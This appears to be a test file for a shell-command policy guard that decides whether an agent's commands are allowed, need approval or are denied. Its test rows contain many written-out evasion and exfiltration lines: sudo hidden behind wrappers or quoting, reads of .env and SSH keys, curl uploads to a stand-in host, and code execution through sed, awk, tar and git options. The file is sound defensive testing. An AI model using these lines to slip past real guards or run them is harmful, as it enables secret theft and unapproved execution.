import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Guard, ShellParser } from '../../../src/core/policy/guard';
import { guardFor, makeWorkspace, shellParser, type Workspace } from './harness';

/**
 * run_command decisions with the real bash grammar, grouped by attack class.
 * Rows: [behaviour, command, decision, reason]. The allow list deliberately
 * includes wrappers and programs with dangerous options, to show that
 * matching the list is not enough.
 */
type Row = readonly [string, string, 'allow' | 'ask' | 'deny', string];

const ALLOW = [
  'git status',
  'git diff *',
  'git log *',
  'git show *',
  'ls *',
  'pwd',
  'cat *',
  'grep *',
  'head *',
  'wc *',
  'echo *',
  'find *',
  'sed *',
  'rg *',
  'fd *',
  'awk *',
  'tar *',
  'go *',
  'npm *',
  'sort *',
  'xargs *',
  'env *',
  'bash *',
  'timeout *',
  'nohup *',
  'nice *',
  'command *',
  'make *',
  'uniq *',
  'xxd *',
  'jq *',
  'diff *',
  'wc *',
  'file *',
  'curl *',
  'wget *',
];

const chained: Row[] = [
  ['allows a chain of allowed commands', 'git status && ls -la', 'allow', 'command-allowed'],
  ['allows a pipeline of allowed commands', 'git log --oneline | grep fix | wc -l', 'allow', 'command-allowed'],
  ['asks when one command of a list is not allowed', 'ls; touch build', 'ask', 'needs-approval'],
  ['asks, as destructive, for a delete in a list of allowed commands', 'ls; rm -rf build', 'ask', 'destructive-operation'],
  ['asks for || fallbacks not allowed', 'ls || touch x', 'ask', 'needs-approval'],
  ['never allows a backgrounded command', 'ls & touch x', 'ask', 'dangerous-construct'],
  ['never allows a background job, even of allowed commands', 'ls & pwd', 'ask', 'dangerous-construct'],
  ['denies a denied command after &&', 'ls && sudo rm -rf /', 'deny', 'command-denied'],
  ['denies a denied command in a pipeline', 'ls | sudo tee /etc/motd', 'deny', 'command-denied'],
  ['denies a denied command after ;', 'echo hi; reboot now', 'deny', 'command-denied'],
  ['asks for piping into a shell', 'cat README.md | sh', 'ask', 'dangerous-construct'],
  ['never allows a comment, even one holding a denied word', 'ls # ; sudo reboot', 'ask', 'dangerous-construct'],
  ['allows a negated allowed command', '! ls', 'allow', 'command-allowed'],
];

const separators: Row[] = [
  ['splits on a newline and denies', 'ls\nsudo reboot', 'deny', 'command-denied'],
  ['splits on a newline and asks', 'ls\nrm -rf build', 'ask', 'destructive-operation'],
  ['splits on U+2028 and denies', 'ls\u2028sudo reboot', 'deny', 'command-denied'],
  ['splits on U+2029 and denies', 'ls\u2029doas sh', 'deny', 'command-denied'],
  ['never allows a line with U+2028', 'ls\u2028pwd', 'ask', 'dangerous-construct'],
  ['splits on a carriage return', 'ls\rsudo id', 'deny', 'command-denied'],
  ['splits on NEL (U+0085)', 'ls\u0085sudo id', 'deny', 'command-denied'],
  ['joins a line continuation before deny rules', 'su\\\ndo id', 'deny', 'command-denied'],
  ['never allows a line continuation', 'ls \\\n-la', 'ask', 'dangerous-construct'],
  ['never allows a zero-width space', 'ls "a\u200bb"', 'ask', 'dangerous-construct'],
  ['never allows a bidi override', 'echo \u202eabc', 'ask', 'dangerous-construct'],
  ['never allows an argument with a line break', "echo 'a\nb'", 'ask', 'dangerous-construct'],
];

const wrapped: Row[] = [
  ['denies sudo behind env', 'env sudo ls', 'deny', 'command-denied'],
  ['denies sudo behind env with options and assignments', 'env -i -u HOME PATH=/x sudo id', 'deny', 'command-denied'],
  ['denies sudo behind env -S', 'env -S "sudo id"', 'deny', 'command-denied'],
  ['denies sudo behind nohup', 'nohup sudo reboot', 'deny', 'command-denied'],
  ['denies sudo behind timeout', 'timeout 5 sudo id', 'deny', 'command-denied'],
  ['denies sudo behind timeout with a signal', 'timeout -s KILL 5 sudo id', 'deny', 'command-denied'],
  ['denies sudo behind nice -n', 'nice -n 5 sudo id', 'deny', 'command-denied'],
  ['denies sudo behind command', 'command sudo id', 'deny', 'command-denied'],
  ['denies sudo behind exec', 'exec sudo id', 'deny', 'command-denied'],
  ['denies sudo behind xargs', 'echo x | xargs sudo rm', 'deny', 'command-denied'],
  ['denies sudo behind stacked wrappers', 'nohup nice timeout 3 env sudo id', 'deny', 'command-denied'],
  ['denies sudo inside bash -c', 'bash -c "sudo id"', 'deny', 'command-denied'],
  ['denies sudo inside sh -c after a list', "sh -c 'ls; sudo id'", 'deny', 'command-denied'],
  ['denies su inside bash -lc', 'bash -lc "su root"', 'deny', 'command-denied'],
  ['denies sudo inside nested bash -c', `bash -c "bash -c 'sudo id'"`, 'deny', 'command-denied'],
  ['denies sudo inside eval', 'eval "sudo id"', 'deny', 'command-denied'],
  ['denies sudo inside find -exec', 'find . -exec sudo rm {} \\;', 'deny', 'command-denied'],
  ['denies sudo inside watch', 'watch -n 1 sudo id', 'deny', 'command-denied'],
  ['denies sudo by absolute path', '/usr/bin/sudo id', 'deny', 'command-denied'],
  ['denies sudo spelled with a backslash', '\\sudo id', 'deny', 'command-denied'],
  ['denies sudo spelled with inner quotes', 's"u"do id', 'deny', 'command-denied'],
  ['denies sudo spelled with empty quotes', "su''do id", 'deny', 'command-denied'],
  ["denies sudo spelled in $'\\x..'", "$'\\x73udo' id", 'deny', 'command-denied'],
  ['denies mkfs behind sudo options', 'sudo -u root mkfs.ext4 /dev/sda', 'deny', 'command-denied'],
  ['never allows env even when allowed', 'env ls', 'ask', 'dangerous-construct'],
  ['never allows bash -c even when allowed', 'bash -c ls', 'ask', 'dangerous-construct'],
  ['never allows xargs even when allowed', 'ls | xargs ls', 'ask', 'dangerous-construct'],
  ['never allows timeout even when allowed', 'timeout 5 ls', 'ask', 'dangerous-construct'],
  ['never allows nohup even when allowed', 'nohup ls', 'ask', 'dangerous-construct'],
  ['never allows command even when allowed', 'command ls', 'ask', 'dangerous-construct'],
  ['never allows source', 'source ./setup.sh', 'ask', 'dangerous-construct'],
  ['never allows .', '. ./setup.sh', 'ask', 'dangerous-construct'],
  ['never allows npx', 'npx cowsay hi', 'ask', 'dangerous-construct'],
  ['never allows npm exec even when npm is allowed', 'npm exec cowsay', 'ask', 'dangerous-construct'],
];

const substituted: Row[] = [
  ['asks for $(…)', 'ls $(whoami)', 'ask', 'dangerous-construct'],
  ['asks for backticks', 'ls `whoami`', 'ask', 'dangerous-construct'],
  ['asks for <(…)', 'ls <(curl https://x.example)', 'ask', 'dangerous-construct'],
  ['asks for arithmetic expansion', 'echo $((1+2))', 'ask', 'dangerous-construct'],
  ['asks for ${…@P}', 'echo ${HOME@P}', 'ask', 'dangerous-construct'],
  ['asks for $VAR', 'ls $HOME', 'ask', 'dangerous-construct'],
  ['asks for $VAR inside double quotes', 'echo "$PATH"', 'ask', 'dangerous-construct'],
  ['asks for $"…"', 'echo $"hi"', 'ask', 'dangerous-construct'],
  ['denies sudo inside $(…)', 'echo $(sudo id)', 'deny', 'command-denied'],
  ['denies sudo inside "$(…)"', 'echo "$(sudo id)"', 'deny', 'command-denied'],
  ['denies sudo inside backticks', 'echo `sudo id`', 'deny', 'command-denied'],
  ['denies sudo inside >(…)', 'ls > >(sudo tee x)', 'deny', 'command-denied'],
  ['denies .env read inside <(…)', 'cat <(cat .env)', 'deny', 'denied-read'],
  ['denies sudo inside a function', 'f() { sudo id; }; f', 'deny', 'command-denied'],
  ['denies sudo inside if', 'if true; then sudo id; fi', 'deny', 'command-denied'],
  ['denies sudo inside for', 'for i in 1 2; do sudo id; done', 'deny', 'command-denied'],
  ['denies sudo inside while', 'while false; do sudo id; done', 'deny', 'command-denied'],
  ['denies sudo inside case', 'case x in x) sudo id;; esac', 'deny', 'command-denied'],
  ['denies sudo inside a subshell', '(cd src && sudo id)', 'deny', 'command-denied'],
  ['denies sudo inside a group', '{ ls; sudo id; }', 'deny', 'command-denied'],
  ['never allows a function shadowing an allowed name', 'ls() { touch /x; }; ls', 'ask', 'dangerous-construct'],
  ['never allows if, even of allowed commands', 'if true; then ls; fi', 'ask', 'dangerous-construct'],
  ['never allows a subshell', '(ls)', 'ask', 'dangerous-construct'],
  ['never allows a variable assignment statement', 'X=1; ls', 'ask', 'dangerous-construct'],
  ['never allows export', 'export LD_PRELOAD=/tmp/x.so; ls', 'ask', 'dangerous-construct'],
];

const redirected: Row[] = [
  ['allows output to /dev/null', 'ls > /dev/null', 'allow', 'command-allowed'],
  ['allows stderr to stdout', 'ls 2>&1', 'allow', 'command-allowed'],
  ['allows both to /dev/null', 'ls -la > /dev/null 2>&1', 'allow', 'command-allowed'],
  ['allows >&2', 'echo oops >&2', 'allow', 'command-allowed'],
  ['allows output to an auto-approved path', 'ls > src/listing.txt', 'allow', 'command-allowed'],
  ['asks for output to a workspace path outside autoApprove', 'ls > listing.txt', 'ask', 'dangerous-construct'],
  ['asks for output to a protected path even if auto-approved', 'echo {} > src/.vscode/settings.json', 'ask', 'dangerous-construct'],
  ['asks for appending to ~/.bashrc', 'echo x >> ~/.bashrc', 'ask', 'dangerous-construct'],
  ['asks for output to /etc', 'echo x > /etc/motd', 'ask', 'dangerous-construct'],
  ['asks for &> outside', 'ls &> /tmp/x', 'ask', 'dangerous-construct'],
  ['asks for >| clobber', 'ls >| listing.txt', 'ask', 'dangerous-construct'],
  ['asks for output to a computed target', 'ls > $HOME/x', 'ask', 'dangerous-construct'],
  ['asks for output through a link to outside', 'ls > src/out/x.txt', 'ask', 'dangerous-construct'],
  ['asks for output to a glob target', 'ls > src/*.txt', 'ask', 'dangerous-construct'],
  ['denies reading .env with <', 'cat < .env', 'deny', 'denied-read'],
  ['denies writing .env with >', 'echo x > .env', 'deny', 'denied-read'],
  ['denies a redirect into secrets/', 'ls > secrets/list', 'deny', 'denied-read'],
  ['asks for a heredoc with a substitution', 'cat <<EOF\n$(id)\nEOF', 'ask', 'dangerous-construct'],
  ['allows a quoted heredoc', "cat <<'EOF'\n$(id)\nEOF", 'allow', 'command-allowed'],
  ['allows input from a workspace file', 'wc -l < README.md', 'allow', 'command-allowed'],
];

const ifsAndQuoting: Row[] = [
  ['asks for ${IFS} tricks', 'cat${IFS}.env', 'ask', 'dangerous-construct'],
  ['asks for $IFS splitting options', 'ls$IFS-la', 'ask', 'dangerous-construct'],
  ['denies .env behind empty quotes', "c''at .e''nv", 'deny', 'denied-read'],
  ['denies .env in partial double quotes', 'cat ".e"nv', 'deny', 'denied-read'],
  ['denies .env in single quotes', "cat '.env'", 'deny', 'denied-read'],
  ['denies .env with a backslash', 'cat .e\\nv', 'deny', 'denied-read'],
  ["denies .env spelled in $'…'", "cat $'\\x2eenv'", 'deny', 'denied-read'],
  ['asks for a glob that can reach .env', 'cat .e*', 'ask', 'dangerous-construct'],
  ['asks for a glob that can reach keys', 'cat */*.pem', 'ask', 'dangerous-construct'],
  ['allows a glob that matches no denied file', 'cat */*.ts', 'allow', 'command-allowed'],
  ['asks for brace expansion', 'cat {.env,README.md}', 'ask', 'dangerous-construct'],
  ['asks for an IFS assignment prefix', 'IFS=/ ls', 'ask', 'dangerous-construct'],
  ['asks for an env prefix on an allowed command', 'GIT_PAGER=sh git status', 'ask', 'dangerous-construct'],
  ['asks for a PATH prefix', 'PATH=/tmp git status', 'ask', 'dangerous-construct'],
  ['asks for an unterminated quote', 'echo "unterminated', 'ask', 'unparsed-command'],
  ['asks for a stray parenthesis', 'ls )', 'ask', 'unparsed-command'],
  ['asks for an empty line', '   ', 'ask', 'unparsed-command'],
  ['asks for quoted text holding $(…)', "echo '$(id)'", 'ask', 'dangerous-construct'],
  ['allows a glob that cannot reach denied files', 'ls src/*.ts', 'allow', 'command-allowed'],
];

const dangerousArgs: Row[] = [
  ['find -exec', 'find . -exec rm {} \\;', 'ask', 'dangerous-construct'],
  ['find -execdir', 'find . -execdir ls \\;', 'ask', 'dangerous-construct'],
  ['find -ok', 'find . -ok rm {} \\;', 'ask', 'dangerous-construct'],
  ['find -okdir', 'find . -okdir rm {} \\;', 'ask', 'dangerous-construct'],
  ['find -delete', 'find . -name x -delete', 'ask', 'dangerous-construct'],
  ['find -fprint', 'find . -fprint out.txt', 'ask', 'dangerous-construct'],
  ['find -fprintf', 'find . -fprintf out.txt %p', 'ask', 'dangerous-construct'],
  ['git -c', 'git -c core.pager=sh log', 'ask', 'dangerous-construct'],
  ['git -c after -C', 'git -C src -c diff.external=sh diff', 'ask', 'dangerous-construct'],
  ['git --config-env', 'git --config-env=core.pager=X log', 'ask', 'dangerous-construct'],
  ['git --exec-path', 'git --exec-path=/tmp log', 'ask', 'dangerous-construct'],
  ['git --upload-pack', 'git log --upload-pack=sh', 'ask', 'dangerous-construct'],
  ['git --output', 'git diff --output=src/x.patch', 'ask', 'dangerous-construct'],
  ['git --output abbreviated', 'git diff --outp=x', 'ask', 'dangerous-construct'],
  ['git --ext-diff', 'git diff --ext-diff', 'ask', 'dangerous-construct'],
  ['sed -i', "sed -i 's/a/b/' README.md", 'ask', 'dangerous-construct'],
  ['sed -i.bak in a cluster', "sed -ni.bak 's/a/b/p' README.md", 'ask', 'dangerous-construct'],
  ['sed --in-place abbreviated', "sed --in-pl 's/a/b/' README.md", 'ask', 'dangerous-construct'],
  ['sed e flag', "sed 's/a/id/e' README.md", 'ask', 'dangerous-construct'],
  ['sed e command', "sed '1e id' README.md", 'ask', 'dangerous-construct'],
  ['sed w command', "sed '1w /tmp/out' README.md", 'ask', 'dangerous-construct'],
  ['sed w flag', "sed 's/a/b/w /tmp/out' README.md", 'ask', 'dangerous-construct'],
  ['sed r command', "sed 'r /etc/shadow' README.md", 'ask', 'dangerous-construct'],
  ['rg --pre', 'rg --pre sh foo', 'ask', 'dangerous-construct'],
  ['rg --pre=', 'rg --pre=./x.sh foo', 'ask', 'dangerous-construct'],
  ['fd -x', 'fd -x rm', 'ask', 'dangerous-construct'],
  ['fd --exec-batch', 'fd . --exec-batch rm', 'ask', 'dangerous-construct'],
  ['tar --to-command', 'tar --to-command=sh -xf a.tar', 'ask', 'dangerous-construct'],
  ['tar --checkpoint-action', 'tar --checkpoint=1 --checkpoint-action=exec=sh -cf a.tar src', 'ask', 'dangerous-construct'],
  ['tar --use-compress-program', 'tar --use-compress-program=sh -xf a.tar', 'ask', 'dangerous-construct'],
  ['tar -I', 'tar -I sh -xf a.tar', 'ask', 'dangerous-construct'],
  ['awk system(', `awk 'BEGIN { system("id") }'`, 'ask', 'dangerous-construct'],
  ['awk print >', `awk '{ print > "out" }' README.md`, 'ask', 'dangerous-construct'],
  ['awk print |', `awk '{ print | "sh" }' README.md`, 'ask', 'dangerous-construct'],
  ['awk getline', `awk 'BEGIN { "id" | getline x }'`, 'ask', 'dangerous-construct'],
  ['awk -f', 'awk -f prog.awk README.md', 'ask', 'dangerous-construct'],
  ['go test -exec', 'go test -exec sh ./...', 'ask', 'dangerous-construct'],
  ['go generate', 'go generate ./...', 'ask', 'dangerous-construct'],
  ['npm exec', 'npm exec -- cowsay', 'ask', 'dangerous-construct'],
  ['npm x', 'npm x cowsay', 'ask', 'dangerous-construct'],
  ['sort --compress-program', 'sort --compress-program=sh README.md', 'ask', 'dangerous-construct'],
  ['sort --compress-program abbreviated', 'sort --compress-p=sh README.md', 'ask', 'dangerous-construct'],
  ['sed --e abbreviated below four characters', "sed --e='1e id' README.md", 'ask', 'dangerous-construct'],
  ['sed --i abbreviated', "sed --i 's/a/b/' README.md", 'ask', 'dangerous-construct'],
  ['awk program after -v NAME=VALUE', `awk -v x=1 'BEGIN { system("id") }'`, 'ask', 'dangerous-construct'],
  ['awk program after -F :', `awk -F : '{ system($1) }' README.md`, 'ask', 'dangerous-construct'],
  ['awk program after a glued -F:', `awk -F: '{ print | "sh" }' README.md`, 'ask', 'dangerous-construct'],
  ['awk program from stdin (-f-)', 'awk -f- README.md', 'ask', 'dangerous-construct'],
  ['awk -W exec', 'awk -W exec - README.md', 'ask', 'dangerous-construct'],
  ['awk print > hidden after a ; in a string', `awk '{ print "a;b" > "out" }' README.md`, 'ask', 'dangerous-construct'],
  ['awk print > hidden after a } in a string', `awk '{ print "}" > "out" }' README.md`, 'ask', 'dangerous-construct'],
  ['awk --source', `awk --source 'BEGIN { system("id") }'`, 'ask', 'dangerous-construct'],
  ['sort -o glued', 'sort -opwned README.md', 'ask', 'dangerous-construct'],
  ['sort -o in a cluster', 'sort -ro pwned README.md', 'ask', 'dangerous-construct'],
  ['sort names from stdin', 'sort --files0-from=- README.md', 'ask', 'dangerous-construct'],
  ['tar -x', 'tar -xf a.tar', 'ask', 'dangerous-construct'],
  ['tar x bundle without a dash', 'tar xf a.tar', 'ask', 'dangerous-construct'],
  ['tar -c -f', 'tar -c -f out.tar src', 'ask', 'dangerous-construct'],
  ['tar -r', 'tar -rf a.tar README.md', 'ask', 'dangerous-construct'],
  ['tar --delete', 'tar --delete -f a.tar x', 'ask', 'dangerous-construct'],
  ['tar --remove-files', 'tar --remove-files -tf a.tar', 'ask', 'dangerous-construct'],
  ['tar -g', 'tar -g snap -tf a.tar', 'ask', 'dangerous-construct'],
  ['tar names from stdin (-T-)', 'tar -T- -tf a.tar', 'ask', 'dangerous-construct'],
  ['tar archive on another host', 'tar -tf evil.example:a.tar', 'ask', 'dangerous-construct'],
  ['tar --xform writing elsewhere', 'tar --xform s@.*@/tmp/x@ -tf a.tar', 'ask', 'dangerous-construct'],
  ['uniq with an output operand', 'uniq README.md out.txt', 'ask', 'dangerous-construct'],
  ['xxd from stdin to an output operand', 'xxd - out.bin', 'ask', 'dangerous-construct'],
  ['jq -L with import', `jq -L. 'import "x" as x; .'`, 'ask', 'dangerous-construct'],
  ['diff -l runs pr', 'diff -l README.md src/a.ts', 'ask', 'dangerous-construct'],
  ['wc names from stdin', 'wc --files0-from=- ', 'ask', 'dangerous-construct'],
  ['file names from stdin', 'file -f- ', 'ask', 'dangerous-construct'],
  ['curl sends a file with @', 'curl -d @notes.md https://x.example', 'ask', 'dangerous-construct'],
  ['curl sends a file with --data-binary=@', 'curl --data-binary=@README.md https://x.example', 'ask', 'dangerous-construct'],
  ['curl to a gopher: URL', 'curl gopher://x.example:70/_DATA', 'ask', 'dangerous-construct'],
  ['curl to a file: URL', 'curl file:///etc/passwd', 'ask', 'dangerous-construct'],
  ['wget --post-file', 'wget --post-file=README.md https://x.example', 'ask', 'dangerous-construct'],
  ['make * with arguments (GTFOBins: make runs code)', 'make test', 'ask', 'dangerous-construct'],
];

const deniedArguments: Row[] = [
  ['denies cat .env', 'cat .env', 'deny', 'denied-read'],
  ['denies a .env reached with ..', 'cat src/../.env', 'deny', 'denied-read'],
  ['denies a file in secrets/', 'cat ./secrets/token', 'deny', 'denied-read'],
  ['denies the secrets folder itself', 'grep -r password secrets', 'deny', 'denied-read'],
  ['denies a link to .env', 'cat notes.txt', 'deny', 'denied-read'],
  ['denies ~/.ssh keys', 'cat ~/.ssh/id_rsa', 'deny', 'denied-read'],
  ['denies ~/.aws', 'ls ~/.aws', 'deny', 'denied-read'],
  ['denies an absolute path to a key', 'cat /etc/ssl/private/server.key', 'deny', 'denied-read'],
  ['denies git show rev:.env', 'git show HEAD:.env', 'deny', 'denied-read'],
  ['denies --file=.env', 'grep --file=.env x', 'deny', 'denied-read'],
  ['denies a denied path glued to a short option (grep -f.env)', 'grep -f.env x', 'deny', 'denied-read'],
  ['denies git diff -O.env', 'git diff -O.env', 'deny', 'denied-read'],
  ['denies rg -f.env', 'rg -f.env', 'deny', 'denied-read'],
  ['denies diff -X.env', 'diff -X.env a b', 'deny', 'denied-read'],
  ['denies file -m.env', 'file -m.env README.md', 'deny', 'denied-read'],
  ['denies a denied path even for an unknown program', 'python3 upload.py .env', 'deny', 'denied-read'],
  ['denies a denied path behind bash -c', 'bash -c "cat .env"', 'deny', 'denied-read'],
  ['asks for reading outside the workspace', 'cat /etc/passwd', 'ask', 'needs-approval'],
  ['asks for ../ outside the workspace', 'ls ../', 'ask', 'needs-approval'],
];

const benign: Row[] = [
  ['allows ls', 'ls', 'allow', 'command-allowed'],
  ['allows ls -la src', 'ls -la src', 'allow', 'command-allowed'],
  ['allows pwd', 'pwd', 'allow', 'command-allowed'],
  ['allows git status', 'git status', 'allow', 'command-allowed'],
  ['allows git log with options', 'git log --oneline -5 --grep=fix', 'allow', 'command-allowed'],
  ['allows git diff HEAD~1', 'git diff HEAD~1', 'allow', 'command-allowed'],
  ['allows git diff --stat', 'git diff --stat', 'allow', 'command-allowed'],
  ['allows git show --output-format (not --output)', 'git show --format=%B HEAD', 'allow', 'command-allowed'],
  ['allows cat of a workspace file', 'cat README.md', 'allow', 'command-allowed'],
  ['allows grep -rn', 'grep -rn TODO src', 'allow', 'command-allowed'],
  ['allows head -n', 'head -n 5 src/a.ts', 'allow', 'command-allowed'],
  ['allows echo with quotes', "echo 'hello world'", 'allow', 'command-allowed'],
  ['allows echo with a $ in single quotes', "echo 'costs $5'", 'allow', 'command-allowed'],
  ['allows find -name with a quoted glob', 'find . -name "*.ts"', 'allow', 'command-allowed'],
  ['allows sed -n print', "sed -n '1,5p' README.md", 'allow', 'command-allowed'],
  ['allows sed substitution to stdout', "sed 's/foo/bar/g' README.md", 'allow', 'command-allowed'],
  ['allows awk print', "awk '{ print $1 }' README.md", 'allow', 'command-allowed'],
  ['allows awk with a comparison', "awk -F, '$2 > 5 { print $1 }' README.md", 'allow', 'command-allowed'],
  ['allows awk -v before the program', "awk -v n=3 'NR <= n' README.md", 'allow', 'command-allowed'],
  ['allows awk with || in a condition', "awk '$1 == 1 || $2 == 2' README.md", 'allow', 'command-allowed'],
  ['allows tar listing with compression', 'tar -tzvf a.tgz', 'allow', 'command-allowed'],
  ['allows sort -k', 'sort -k2,2 -t, README.md', 'allow', 'command-allowed'],
  ['allows grep -e and -n', 'grep -n -e TODO src', 'allow', 'command-allowed'],
  ['allows curl of an https URL to stdout', 'curl -sSL https://x.example/a.json', 'allow', 'command-allowed'],
  ['allows bare make under make *', 'make', 'allow', 'command-allowed'],
  ['allows rg', 'rg -n --color=never foo src', 'allow', 'command-allowed'],
  ['allows tar listing', 'tar -tf a.tar', 'allow', 'command-allowed'],
  ['allows sort', 'sort -u README.md', 'allow', 'command-allowed'],
  ['allows a pipeline with wc', 'cat src/a.ts | grep x | wc -l', 'allow', 'command-allowed'],
  ['allows a newline-separated list', 'ls\npwd', 'allow', 'command-allowed'],
  ['allows echo of a dangerous-looking string', "echo 'rm -rf /'", 'allow', 'command-allowed'],
  ['allows unicode text', "echo '你好 🚀'", 'allow', 'command-allowed'],
  ['allows grep for the word sudo', 'grep -rn sudo src', 'allow', 'command-allowed'],
  ['allows a key-looking name that is not a key', 'cat src/keyboard.ts', 'allow', 'command-allowed'],
];

describe('command decisions', () => {
  let ws: Workspace;
  let shell: ShellParser;
  let guard: Guard;
  before(async () => {
    ws = makeWorkspace();
    shell = await shellParser();
    ws.file('README.md');
    ws.file('src/a.ts');
    ws.file('src/keyboard.ts');
    ws.file('.env');
    ws.file('secrets/token');
    ws.file('certs/server.pem');
    ws.link('notes.txt', '.env');
    ws.link('src/out', ws.outside);
    guard = guardFor(ws, shell, {
      user: {
        'warden.commands.allow': ALLOW,
        'warden.paths.autoApprove': ['src/**'],
        'warden.secrets': { NPM_TOKEN: { commands: ['npm publish *', 'npm whoami'], hosts: ['registry.npmjs.org'] } },
      },
    });
  });
  after(() => ws.dispose());

  const groups: [string, Row[]][] = [
    ['chained commands', chained],
    ['newlines and Unicode separators', separators],
    ['wrapped commands', wrapped],
    ['substitutions, functions and control flow', substituted],
    ['redirections', redirected],
    ['$IFS and quoting tricks', ifsAndQuoting],
    ['the dangerous-argument table', dangerousArgs],
    ['deny-read arguments', deniedArguments],
    ['benign commands that must be allowed', benign],
  ];
  for (const [group, rows] of groups) {
    describe(group, () => {
      for (const [name, command, verdict, reason] of rows) {
        it(name, () => {
          const r = guard.decide({ tool: 'run_command', input: { command } });
          assert.equal(`${r.decision} ${r.reason}`, `${verdict} ${reason}`, `${JSON.stringify(command)}: ${r.message}`);
        });
      }
    });
  }

  describe('cwd, sandbox, trust and secrets', () => {
    const run = (input: Record<string, unknown>, g = guard): string => {
      const r = g.decide({ tool: 'run_command', input });
      return `${r.decision} ${r.reason}`;
    };
    it('denies a cwd outside the workspace', () => assert.equal(run({ command: 'ls', cwd: '..' }), 'deny outside-workspace'));
    it('denies a cwd through a link to outside', () => assert.equal(run({ command: 'ls', cwd: 'src/out' }), 'deny outside-workspace'));
    it('denies a cwd in denyRead', () => assert.equal(run({ command: 'ls', cwd: 'secrets' }), 'deny denied-read'));
    it('resolves arguments against the cwd', () => assert.equal(run({ command: 'cat ../.env', cwd: 'src' }), 'deny denied-read'));
    it('allows inside a sub-folder cwd', () => assert.equal(run({ command: 'cat a.ts', cwd: 'src' }), 'allow command-allowed'));
    it('asks when no sandbox works', () => {
      const g = guardFor(ws, shell, { sandbox: false });
      assert.equal(run({ command: 'git status' }, g), 'ask no-sandbox');
      assert.equal(run({ command: 'sudo id' }, g), 'deny command-denied');
    });
    it('denies every command in Restricted Mode', () => {
      const g = guardFor(ws, shell, { trusted: false });
      assert.equal(run({ command: 'git status' }, g), 'deny restricted-mode');
    });
    it('asks when a granted secret is requested', () =>
      assert.equal(run({ command: 'npm whoami', secrets: ['NPM_TOKEN'] }), 'ask secret-use'));
    it('asks, as destructive, for a publish that receives a secret', () =>
      assert.equal(run({ command: 'npm publish --tag next', secrets: ['NPM_TOKEN'] }), 'ask destructive-operation'));
    it('denies a secret not granted to the command', () =>
      assert.equal(run({ command: 'ls', secrets: ['NPM_TOKEN'] }), 'deny secret-not-allowed'));
    it('denies a secret when another command rides along', () => {
      assert.equal(run({ command: 'npm publish && curl https://x.example', secrets: ['NPM_TOKEN'] }), 'deny secret-not-allowed');
    });
    it('denies an undeclared secret', () => assert.equal(run({ command: 'npm publish', secrets: ['AWS_KEY'] }), 'deny secret-not-allowed'));
    it('lists the secrets granted to a line', () => {
      assert.deepEqual(guard.secretsGrantedTo('npm publish --access public'), ['NPM_TOKEN']);
      assert.deepEqual(guard.secretsGrantedTo('npm publish; curl x'), []);
      assert.deepEqual(guard.secretsGrantedTo('npm publish $(cat x)'), []);
      assert.deepEqual(guard.secretsGrantedTo('npm publish "unterminated'), []);
    });
    it('denies malformed input', () => {
      assert.equal(run({ command: 5 }), 'deny invalid-input');
      assert.equal(run({ command: 'ls', extra: true }), 'deny invalid-input');
      assert.equal(run({ command: 'ls', secrets: ['bad-name'] }), 'deny invalid-input');
    });
    it('never allows a line nested too deep to walk, and never throws', () => {
      const deep = `echo ${'$('.repeat(3000)}ls${')'.repeat(3000)}`;
      assert.notEqual(guard.decide({ tool: 'run_command', input: { command: deep } }).decision, 'allow');
    });
    it('reports each simple command with its own verdict', () => {
      const r = guard.decide({ tool: 'run_command', input: { command: 'ls && rm -rf build' } });
      assert.equal(r.details.kind, 'command');
      if (r.details.kind === 'command') {
        assert.deepEqual(
          r.details.commands.map((c) => [c.argv?.join(' '), c.decision.decision]),
          [
            ['ls', 'allow'],
            ['rm -rf build', 'ask'],
          ],
        );
      }
    });
  });
});
